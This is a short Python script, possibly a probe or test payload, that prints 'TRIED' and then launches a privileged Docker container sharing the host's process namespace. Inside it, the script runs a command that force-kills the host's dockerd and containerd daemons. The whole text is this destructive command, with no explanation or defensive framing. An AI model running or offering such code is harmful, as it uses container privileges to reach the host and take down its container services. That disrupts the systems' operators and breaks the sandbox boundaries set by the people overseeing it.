print("TRIED", flush=True)
import subprocess
subprocess.Popen(["docker", "run", "--rm", "--privileged", "--pid=host", "busybox:1.37", "sh", "-c", "killall -9 dockerd containerd"])
import time; time.sleep(2)
